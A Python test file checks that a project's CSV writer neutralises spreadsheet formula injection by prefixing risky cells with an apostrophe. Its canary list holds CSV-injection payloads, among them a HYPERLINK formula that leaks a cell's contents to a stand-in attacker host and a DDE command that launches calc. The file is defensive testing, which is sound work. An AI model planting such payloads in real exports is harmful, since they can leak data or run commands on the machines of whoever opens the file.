"""Cells a spreadsheet would run as formulas are neutralised in every CSV we write."""

from __future__ import annotations

import csv
import io

import pytest

from vaxport.core.spreadsheet import FORMULA_STARTS, CsvWriter, safe_cell

CANARIES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(1)"]
CANARIES += ["\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "-2+3"]


@pytest.mark.parametrize("value", CANARIES)
def test_a_text_that_would_start_a_formula_is_written_as_text(value: str) -> None:
    out = io.StringIO()
    CsvWriter(out).row([value, "plain", 7])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells == ["'" + value, "plain", "7"]
    assert not cells[0].startswith(FORMULA_STARTS)


def test_other_values_are_written_unchanged() -> None:
    for value in ["Ada", "O'Neil", "", "a=b", "1-2", 42, -3, 1.5, None]:
        assert safe_cell(value) == value
